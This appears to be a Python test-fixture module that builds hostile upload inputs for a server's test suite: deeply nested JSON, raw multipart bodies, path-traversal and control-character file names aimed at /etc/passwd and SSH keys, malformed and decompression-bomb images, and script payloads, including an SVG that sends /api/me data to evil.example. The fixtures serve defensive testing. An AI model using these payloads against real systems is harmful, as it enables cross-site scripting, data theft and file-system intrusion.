"""Hostile inputs, byte by byte: bodies no JSON encoder would write, multipart a browser never sends,
images that lie about what they are, and file names meant to escape a directory."""

from __future__ import annotations

import json
import struct
import uuid
import zlib
from typing import Any

from tests.support.images import tiny_jpeg, tiny_png

MIB = 1024 * 1024
DEPTH = 100_000
BOUNDARY = "hostile-boundary-7f3a"


def deep_array(depth: int = DEPTH) -> bytes:
    return b"[" * depth + b"]" * depth


def deep_object(depth: int = DEPTH) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


def json_with(body: dict[str, Any], field: str, raw_value: bytes) -> bytes:
    """`body` as JSON with `field`'s value replaced by `raw_value`, written as is (no escaping)."""
    placeholder = "__hostile_placeholder__"
    text = json.dumps({**body, field: placeholder}).encode()
    return text.replace(json.dumps(placeholder).encode(), raw_value)


def multipart(
    content: bytes,
    *,
    filename: bytes | None = b"upload.bin",
    content_type: bytes = b"application/octet-stream",
    field: bytes = b"file",
    boundary: str = BOUNDARY,
    close: bool = True,
) -> bytes:
    """One multipart/form-data part, the `filename` parameter written raw (None leaves it out)."""
    disposition = b'Content-Disposition: form-data; name="' + field + b'"'
    if filename is not None:
        disposition += b'; filename="' + filename + b'"'
    head = b"--" + boundary.encode() + b"\r\n" + disposition + b"\r\nContent-Type: " + content_type + b"\r\n\r\n"
    tail = b"\r\n--" + boundary.encode() + b"--\r\n" if close else b""
    return head + content + tail


def multipart_headers(boundary: str = BOUNDARY) -> dict[str, str]:
    return {"content-type": f"multipart/form-data; boundary={boundary}"}


# --- file names ---------------------------------------------------------------------------------

HOSTILE_FILENAMES: dict[str, bytes] = {
    "parent-dirs": b"../../etc/passwd",
    "many-parent-dirs": b"../" * 40 + b"tmp/folio-escape",
    "absolute": b"/etc/passwd",
    "absolute-tmp": b"/tmp/folio-escape.csv",
    "backslashes": b"..\\..\\..\\windows\\system32\\config\\sam",
    "nul-byte": b"books.csv\x00.png",
    "only-nul": b"\x00",
    "control-characters": b"bo\r\noks\x07\x1b[31m.csv",
    "very-long": b"a" * 1000 + b".csv",
    "dot": b".",
    "dot-dot": b"..",
    "hidden": b".bashrc",
    "rtl-override": "books\u202egnp.csv".encode(),
    "fullwidth-dots": "\uff0e\uff0e\uff0fetc\uff0fpasswd".encode(),
    "encoded-slashes": b"..%2F..%2Fetc%2Fpasswd",
    "invalid-utf8": b"caf\xe9\xff.csv",
    "windows-device": b"CON",
    "tilde": b"~/.ssh/authorized_keys",
}


# --- images that lie ----------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def marked_png() -> bytes:
    """A valid 1x1 PNG no other upload shares: a `tEXt` chunk carries a fresh UUID."""
    return tiny_png()[:-12] + _png_chunk(b"tEXt", b"Comment\x00" + uuid.uuid4().hex.encode()) + tiny_png()[-12:]


def marked(content: bytes) -> bytes:
    """`content` with a fresh UUID after it, so the file can be told from every other test's."""
    return content + uuid.uuid4().hex.encode()


def png_signature_then_garbage() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def png_with_bad_crc() -> bytes:
    good = tiny_png()
    ihdr_crc_at = 8 + 8 + 13
    return good[:ihdr_crc_at] + b"\x00\x00\x00\x00" + good[ihdr_crc_at + 4 :]


def png_cut_short() -> bytes:
    return tiny_png()[:-12]


def png_bomb_header(width: int = 100_000, height: int = 100_000) -> bytes:
    """A well-formed PNG that declares a gigantic canvas: a few hundred bytes that would decode to tens of GB."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 4096)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels) + _png_chunk(b"IEND", b"")


def jpeg_signature_then_garbage() -> bytes:
    return b"\xff\xd8\xff" + b"<html><script>alert(1)</script></html>" * 4


def webp_signature_then_garbage() -> bytes:
    return b"RIFF\xff\xff\xff\x7fWEBP" + b"garbage!" * 16


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script>"
    b"</svg>\n"
)
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
GZIP_BYTES = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(b"title,author\n" * 100)[2:]

LYING_IMAGES: dict[str, tuple[bytes, bytes, bytes]] = {
    # case: (content, file name, declared type)
    "png-signature-then-garbage": (png_signature_then_garbage(), b"cover.png", b"image/png"),
    "png-bad-crc": (png_with_bad_crc(), b"cover.png", b"image/png"),
    "png-cut-short": (png_cut_short(), b"cover.png", b"image/png"),
    "jpeg-signature-then-html": (jpeg_signature_then_garbage(), b"cover.jpg", b"image/jpeg"),
    "webp-signature-then-garbage": (webp_signature_then_garbage(), b"cover.webp", b"image/webp"),
    "text-named-png": (b"just words, honestly\n" * 10, b"cover.png", b"image/png"),
    "svg-with-script": (SVG_WITH_SCRIPT, b"cover.svg", b"image/svg+xml"),
    "svg-named-png": (SVG_WITH_SCRIPT, b"cover.png", b"image/png"),
    "html-named-jpeg": (HTML_PAGE, b"cover.jpg", b"image/jpeg"),
    "gzip-named-png": (GZIP_BYTES, b"cover.png", b"image/png"),
    "nul-bytes": (b"\x00" * 4096, b"cover.png", b"image/png"),
}
HONEST_IMAGES_WITH_WRONG_LABELS: dict[str, tuple[bytes, bytes, bytes, str]] = {
    # case: (content, file name, declared type, the type the server must serve)
    "jpeg-declared-png": (tiny_jpeg(), b"cover.png", b"image/png", "image/jpeg"),
    "png-declared-svg": (tiny_png(), b"cover.svg", b"image/svg+xml", "image/png"),
    "png-named-exe": (tiny_png(), b"cover.exe", b"application/x-msdownload", "image/png"),
}
